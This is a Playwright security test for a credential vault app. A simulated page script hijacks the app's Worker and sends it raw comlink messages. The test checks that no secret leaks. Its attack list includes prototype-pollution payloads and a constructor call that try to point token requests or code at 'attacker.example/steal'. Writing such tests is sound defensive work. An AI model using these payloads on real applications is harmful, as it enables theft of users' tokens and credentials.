/**
 * A hostile page: script running in the app's page (an XSS, a compromised dependency) captures
 * the worker and speaks comlink's protocol to it directly. It may use the allowed operations
 * (that is what an unlocked app offers), but it must not change the worker, run its own code
 * there, receive a secret, or make the worker send one anywhere but the sandbox.
 */
import { expect, test, type Page } from '@playwright/test';
import { createVault, openConnect } from './helpers';

const SANDBOX = 'http://localhost:9400/__sandbox';
const ALLOWED_HOSTS = new Set(['localhost:4173', 'localhost:9400', 'localhost:9401']);
const KNOWN_SECRETS = ['sandbox-password-secret', 'alice-password', 'sandbox-api-key-123'];
const textbox = (page: Page, name: string) => page.getByRole('textbox', { name, exact: true });

test('script in the page cannot reach a secret through the worker', async ({
	page,
	context,
	request
}) => {
	await request.post(`${SANDBOX}/reset`);
	// What the worker sends anywhere, and every token the sandbox issues.
	const hosts = new Set<string>();
	const issued: string[] = [];
	context.on('request', (r) => hosts.add(new URL(r.url()).host));
	context.on('response', async (r) => {
		if (!r.url().startsWith('http://localhost:9400/token')) return;
		const body = (await r.json().catch(() => ({}))) as Record<string, unknown>;
		for (const key of ['access_token', 'refresh_token', 'id_token'])
			if (typeof body[key] === 'string') issued.push(body[key]);
	});
	// The attacker is there before the app starts: it keeps every Worker and what it says.
	await page.addInitScript(() => {
		const seen: string[] = [];
		const workers: Worker[] = [];
		Object.assign(window, { __seen: seen, __workers: workers });
		window.Worker = new Proxy(window.Worker, {
			construct(target, args) {
				const worker = Reflect.construct(target, args) as Worker;
				worker.addEventListener('message', (e) => seen.push(JSON.stringify(e.data)));
				workers.push(worker);
				return worker;
			}
		});
	});

	await createVault(page);
	await openConnect(page, 'sandbox password', /Password/);
	await textbox(page, 'Username').fill('alice');
	await textbox(page, 'Password').fill('alice-password');
	await page.getByRole('button', { name: 'Connect', exact: true }).click();
	await expect(page.getByTestId('account')).toHaveText('alice@example.test');
	await openConnect(page, 'sandbox api key', /^Sandbox/);
	await textbox(page, 'API key').fill('sandbox-api-key-123');
	await page.getByRole('button', { name: 'Connect', exact: true }).click();
	await expect(page.getByTestId('account')).toBeVisible();
	await expect.poll(() => issued.length).toBeGreaterThan(0);

	const answers = await page.evaluate(async () => {
		const [worker] = (window as unknown as { __workers: Worker[] }).__workers;
		if (!worker) throw new Error('no worker captured');
		const call = (message: Record<string, unknown>) =>
			new Promise<{ type?: string; value?: unknown }>((resolve) => {
				const id = crypto.randomUUID();
				const listener = (e: MessageEvent) => {
					if (e.data?.id !== id) return;
					worker.removeEventListener('message', listener);
					resolve(e.data);
				};
				worker.addEventListener('message', listener);
				worker.postMessage({ id, ...message });
			});
		const raw = (value: unknown) => ({ type: 'RAW', value });
		const apply = (path: string[], ...args: unknown[]) =>
			call({ type: 'APPLY', path, argumentList: args.map(raw) });
		const attacks = [
			await call({
				type: 'SET',
				path: ['__proto__', '__proto__', 'use_mtls_endpoint_aliases'],
				value: raw(true)
			}),
			await call({
				type: 'SET',
				path: ['connections', '__proto__', 'mtls_endpoint_aliases'],
				value: raw({ token_endpoint: 'https://attacker.example/steal' })
			}),
			await call({
				type: 'CONSTRUCT',
				path: ['vault', 'status', 'constructor'],
				argumentList: [raw('fetch("https://attacker.example/steal")')]
			}),
			await call({ type: 'GET', path: ['connections'] }),
			await call({ type: 'ENDPOINT', path: [] })
		];
		// Every method the façade offers, on every connection.
		const list = (await apply(['connections', 'list'])).value as { id: string }[];
		const used = [
			await apply(['vault', 'status']),
			await apply(['settings', 'get']),
			await apply(['folders', 'list'])
		];
		for (const { id } of list) {
			const spec = { method: 'GET', path: '/api/me' };
			used.push(
				await apply(['connections', 'get'], id),
				await apply(['connections', 'check'], id),
				await apply(['connections', 'refresh'], id),
				await apply(['connections', 'request'], id, spec),
				await apply(['connections', 'curl'], id, spec, { includeSecrets: false, locale: 'en' }),
				await apply(['connections', 'curl'], id, spec, { includeSecrets: true, locale: 'en' }),
				await apply(['connections', 'edit'], id, { description: 'seen by a script' })
			);
		}
		return { attacks, used, count: list.length };
	});

	expect(answers.count).toBe(2);
	for (const answer of answers.attacks)
		expect(answer).toMatchObject({
			type: 'HANDLER',
			name: 'throw',
			value: { code: 'input.invalid' }
		});
	// Including a secret needs the user's passphrase again: the page alone does not get it.
	const curls = answers.used.filter((a) => JSON.stringify(a).includes('curl '));
	expect(curls.length).toBe(2);
	expect(JSON.stringify(answers.used)).toContain('vault.proof-required');

	// The worker still refreshes against the sandbox and nothing else.
	const before = (
		(await (await request.get(`${SANDBOX}/stats`)).json()) as { refreshes: { total: number } }
	).refreshes.total;
	await page.getByRole('link', { name: 'Connections', exact: true }).click();
	await page
		.getByRole('link', { name: /Password/ })
		.first()
		.click();
	await page.getByRole('button', { name: 'Refresh now' }).click();
	await expect
		.poll(
			async () =>
				((await (await request.get(`${SANDBOX}/stats`)).json()) as { refreshes: { total: number } })
					.refreshes.total
		)
		.toBeGreaterThan(before);
	expect([...hosts].filter((h) => !ALLOWED_HOSTS.has(h))).toEqual([]);

	// No secret reached the page: neither in the answers nor in anything the worker posted.
	const seen = await page.evaluate(() =>
		(window as unknown as { __seen: string[] }).__seen.join('\n')
	);
	const everything = `${seen}\n${JSON.stringify(answers)}`;
	expect(issued.length).toBeGreaterThan(2);
	for (const secret of [...KNOWN_SECRETS, ...issued]) expect(everything).not.toContain(secret);
});
